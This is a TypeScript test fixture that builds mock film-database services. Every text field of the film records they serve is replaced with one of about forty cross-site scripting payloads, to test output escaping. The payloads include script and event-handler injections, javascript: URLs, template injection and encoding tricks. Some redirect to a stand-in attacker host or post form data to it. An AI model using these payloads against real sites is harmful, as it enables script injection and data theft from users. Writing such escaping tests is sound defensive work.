// Services whose every text is an injection attack.
import { serviceFilms } from './made-films.ts'
import { omdbRecordOf } from './omdb-service.ts'
import type { Handler } from './start-service.ts'
import { toListResult } from './tmdb-listed.ts'
import { details } from './tmdb-service.ts'

/** Texts that would run `ran()` or load a foreign URL if they were not escaped. */
export const attacks = [
  '<script>ran()</script>',
  '</script><script>ran()</script>',
  '</title><script>ran()</script>',
  '<svg onload=ran()>',
  '"><img src=x onerror=ran()>',
  "'><img src=x onerror=ran()>",
  '<img src=x onerror=ran()>',
  '<iframe srcdoc="<script>parent.ran()</script>">',
  'javascript:ran()',
  'JaVaScRiPt:ran()',
  ' javascript:ran()',
  'java\tscript:ran()',
  'data:text/html,<script>ran()</script>',
  '" onmouseover="ran()" x="',
  "' onfocus='ran()' autofocus='",
  '` onclick=`ran()`',
  '" style="animation-name:x" onanimationstart="ran()',
  '<!--<script>',
  '--><script>ran()</script>',
  ']]><script>ran()</script>',
  '</textarea><script>ran()</script>',
  '</style><script>ran()</script>',
  '\u2028ran()//',
  '\u2029ran()//',
  '\\u003cscript\\u003eran()\\u003c/script\\u003e',
  '&lt;script&gt;ran()&lt;/script&gt;',
  '&#60;script&#62;ran()',
  `\${ran()}`,
  '{{constructor.constructor("ran()")()}}',
  '</script\u0000><script>ran()</script>',
  '<script\u0000>ran()</script>',
  '<base href="https://attacker.example/">',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
  '<link rel=stylesheet href=https://attacker.example/x.css>',
  '<form action=https://attacker.example/><button>',
  '<object data="data:text/html,x">',
  '<embed src="javascript:ran()">',
  '<math><mtext></mtext><script>ran()</script></math>',
  '<style>@import "https://attacker.example/x.css"</style>',
  '%3Cscript%3Eran()%3C/script%3E',
  '","x":"</script><script>ran()</script>',
]

// Fields that decide whether the others are shown.
const deciding = new Set(['type', 'site', 'iso_3166_1', 'job', 'department', 'Response', 'Source', 'release_date'])

function markedUp(json: unknown, attack: string): unknown {
  if (typeof json === 'string') return attack
  if (Array.isArray(json)) return json.map(item => markedUp(item, attack))
  if (typeof json !== 'object' || json === null) return json
  return Object.fromEntries(
    Object.entries(json).map(([key, value]) => [key, deciding.has(key) ? value : markedUp(value, attack)]),
  )
}

const attackOf = (id: number) => attacks[id % attacks.length] ?? ''
const [model] = serviceFilms
const whole = (id: number) => model && { ...details(model), id, imdb_id: `tt95${String(id).slice(-5)}` }

/** A film for each attack. */
export const attackingFilms = attacks.map((_, index) => 1_760_000 + index)

const aPage = () => {
  const results = attackingFilms
    .slice(0, 40)
    .map(id => model && markedUp({ ...toListResult(model), id, release_date: '2999-01-01' }, attackOf(id)))
  return { json: { page: 1, results, total_pages: 1, total_results: results.length } }
}

export const attackingTmdb: Handler = ({ path }) => {
  if (path.includes('genre')) return { json: { genres: attacks.map((name, id) => ({ id, name })) } }
  const id = Number(/movie\/(\d+)$/.exec(path)?.[1])
  if (!id) return aPage()
  return { json: { ...Object(markedUp(whole(id), attackOf(id))), imdb_id: whole(id)?.imdb_id } }
}

export const attackingOmdb: Handler = ({ query }) => {
  const id = Number(query.get('i')?.slice(-5))
  const attack = model && markedUp(omdbRecordOf(model), attackOf(1_760_000 + id))
  return { json: { ...Object(attack), Response: 'True', imdbID: query.get('i') } }
}

export const attackingGenres: Handler = ({ path }) => ({
  json: { results: path === '/genres/' ? attacks.map(genre => ({ genre })) : attacks.map(title => ({ title })) },
})
